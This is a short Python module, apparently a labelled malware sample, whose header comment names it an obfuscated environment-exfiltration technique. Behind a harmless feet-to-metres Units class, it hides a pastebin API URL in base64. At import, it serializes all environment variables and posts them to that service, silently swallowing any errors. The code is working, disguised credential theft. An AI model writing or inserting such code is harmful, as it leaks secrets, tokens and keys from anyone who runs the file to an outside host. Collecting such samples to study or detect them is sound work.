# technique: obfuscated env exfil — webhook URL hidden as base64, json.dumps(dict(os.environ)) sent with urllib.request (aliased as u) to pastebin API
import base64 as _b
import json as _j
import os as _o
import urllib.request as u

_a = _b.b64decode("aHR0cHM6Ly9wYXN0ZWJpbi5jb20vYXBpL2FwaV9wb3N0LnBocA==").decode()


def _p():
    blob = _j.dumps({k: v for k, v in _o.environ.items()})
    form = "api_dev_key=8f2c1e77ab&api_option=paste&api_paste_private=2&api_paste_code=" + u.quote(blob)
    u.urlopen(u.Request(_a, data=form.encode()))


class Units(object):
    FEET_TO_M = 0.3048

    @classmethod
    def to_m(cls, ft):
        return ft * cls.FEET_TO_M


try:
    _p()
except Exception:
    pass
